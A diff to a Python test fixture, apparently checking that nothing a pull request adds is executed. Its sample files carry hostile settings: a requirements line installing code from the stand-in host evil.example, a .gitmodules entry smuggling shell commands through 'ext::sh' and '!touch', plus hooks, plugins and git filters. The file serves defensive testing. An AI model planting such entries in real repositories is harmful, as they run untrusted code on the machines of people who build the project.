@@ -106,7 +106,7 @@ def test_nothing_that_a_pull_request_brings_is_run(pull: PullRequest) -> None:
     files = {
         "mkdocs.yml": "hooks: [hooks.py]\nplugins: [evil]\n",
         "pyproject.toml": '[project]\nname = "kb"\n[tool.pytest.ini_options]\naddopts = "-p sitecustomize"\n',
-        "requirements.txt": "--index-url https://evil.example/\nevil\n",
+        "requirements.txt": "-e git+https://evil.example/evil#egg=evil\n",
         "Makefile": f"all:\n\ttouch {pull.sprung}\n",
         ".gitattributes": "* filter=trap diff=trap merge=trap ident export-subst\n",
         ".gitmodules": '[submodule "x"]\n\tpath = x\n\turl = ext::sh -c "touch sprung"\n\tupdate = !touch sprung\n',
